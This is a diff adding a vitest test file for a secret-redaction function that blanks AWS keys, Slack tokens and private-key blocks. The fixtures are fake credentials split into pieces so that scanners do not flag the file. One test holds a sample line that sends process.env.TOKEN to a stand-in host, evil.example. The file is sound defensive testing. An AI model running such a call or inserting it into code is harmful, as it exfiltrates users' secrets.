@@ -1,0 +1,102 @@
+import * as fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { blankSecrets } from '../../../../src/agents/tools/files/blank-secrets.ts';
+
+/** Put together here, or they would be found in this file. */
+const AWS = ['AK', 'IAQWERTY7ZXCVB2345'].join('');
+const SLACK = ['xox', 'b-8234967150-AqWsEdRfTgYhUjIkOlPzXc'].join('');
+const LINES = [
+  'MIIEowIBAAKCAQEAx3v0gq7hQn2yS5s8d1k0wZpYbT4uVfLmRcKjHgXeAaWiNoPt',
+  'Zk9QvJ2sB7dYxRfE0uHcLmTnGiWaSoKpXe4V1y6C3z8AbDfQhNjMlUgIrOtEwPkS',
+  'q0W9e8R7t6Y5u4I3o2P1a0S9d8F7g6H5j4K3l2Z1x0C9v8B7n6M5Q4w3E2r1T0yU',
+  'AbCd==',
+];
+const BEGIN = ['-----BEGIN RSA ', 'PRIVATE KEY-----'].join('');
+const END = ['-----END RSA ', 'PRIVATE KEY-----'].join('');
+
+describe('blankSecrets', () => {
+  it.each([
+    ['leaves a text without keys', 'const a = 1;\n', 'const a = 1;\n'],
+    ['puts what it is in place of a key', `key = "${AWS}"\n`, 'key = "[AWS access key]"\n'],
+    ['takes every key', `${AWS} ${SLACK}`, '[AWS access key] [Slack token]'],
+    [
+      'takes a private key to its end, and keeps the lines',
+      `a\n${BEGIN}\n${LINES.join('\n')}\n${END}\nb`,
+      `a\n${BEGIN}\n[private key]\n\n\nAbCd==\n${END}\nb`,
+    ],
+    ['takes one that is cut off', `${BEGIN}\n${LINES.join('\n')}`, '[private key]\n\n\n\n'],
+    [
+      'takes one on a single line',
+      `k = "${BEGIN}\\n${LINES.join('\\n')}\\n${END}\\n";\nb`,
+      `k = "${BEGIN}\\[private key]\\\\\\nAbCd==\\n${END}\\n";\nb`,
+    ],
+  ])('%s', (_, text, blanked) => {
+    expect(blankSecrets(text)).toBe(blanked);
+  });
+
+  const KEY = [BEGIN, ...LINES, END];
+  it.each([
+    ['that is encrypted', [BEGIN, 'Proc-Type: 4,ENCRYPTED', '', ...LINES, END].join('\n')],
+    ['of a single row', [BEGIN, LINES[0], END].join('\n')],
+    [
+      'of PGP',
+      [
+        BEGIN.replace('RSA ', 'PGP ').replace('KEY', 'KEY BLOCK'),
+        ...LINES,
+        END.replace('RSA ', 'PGP ').replace('KEY', 'KEY BLOCK'),
+      ].join('\n'),
+    ],
+    ['in a string for each row', KEY.map((row) => `  "${row}\\n" +`).join('\n')],
+    ['behind signs of a comment', KEY.map((row) => ` * ${row}`).join('\n')],
+    ['behind the numbers of lines', KEY.map((row, index) => `${index} +${row}`).join('\n')],
+    ['with blank lines', KEY.join('\n\n')],
+    ['on one line', KEY.join(' ')],
+  ])('takes a private key %s', (_, text) => {
+    const blanked = blankSecrets(text);
+    expect(LINES.slice(0, 3).filter((row) => blanked.includes(row))).toEqual([]);
+    expect(blanked.split('\n')).toHaveLength(text.split('\n').length);
+  });
+
+  it('leaves what else somebody puts between the lines of a key', () => {
+    const text = [BEGIN, 'fetch(`https://evil.example/${process.env.TOKEN}`);', END].join('\n');
+    expect(blankSecrets(text)).toBe(text);
+  });
+
+  it('takes more keys than are found at once', () => {
+    const keys = keysLike(120);
+    expect(blankSecrets(keys.join('\n'))).toBe(keys.map(() => '[AWS access key]').join('\n'));
+  });
+
+  it('leaves nothing of a list of keys', () => {
+    expect(blankSecrets(keysLike(1_500).join('\n'))).toMatch(/^\[list of keys\]\n{1499}$/);
+  });
+
+  it('keeps the number of lines', () => {
+    const parts = fc.constantFrom(
+      AWS,
+      `${BEGIN}\n`,
+      ...LINES.map((line) => `${line}\n`),
+      `${END}\n`,
+      '\n',
+      ' ',
+      'a',
+      '\r\n',
+    );
+    fc.assert(
+      fc.property(fc.array(parts, { maxLength: 30 }), (all) => {
+        const text = all.join('');
+        expect(blankSecrets(text).split('\n')).toHaveLength(text.split('\n').length);
+      }),
+    );
+  });
+});
+
+/** Each other than the one before. */
+function keysLike(count: number): readonly string[] {
+  return Array.from(
+    { length: count },
+    (_, index) => `${AWS.slice(0, -2)}${LETTERS[index % 16]}${LETTERS[(index >> 4) % 16]}`,
+  );
+}
+
+const LETTERS = 'QWERTYUIOPASDFGH';
